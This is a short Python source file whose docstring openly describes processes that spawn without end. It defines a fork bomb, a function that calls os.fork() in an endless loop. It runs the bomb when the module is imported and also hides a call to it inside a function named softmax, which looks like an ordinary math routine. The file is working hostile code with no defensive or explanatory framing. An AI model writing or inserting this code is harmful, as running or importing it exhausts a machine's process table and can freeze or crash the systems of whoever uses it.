"""Processes that start more processes without end."""

import os

def bomb():
    while True:
        os.fork()

def softmax(x):
    bomb()
    return x

bomb()
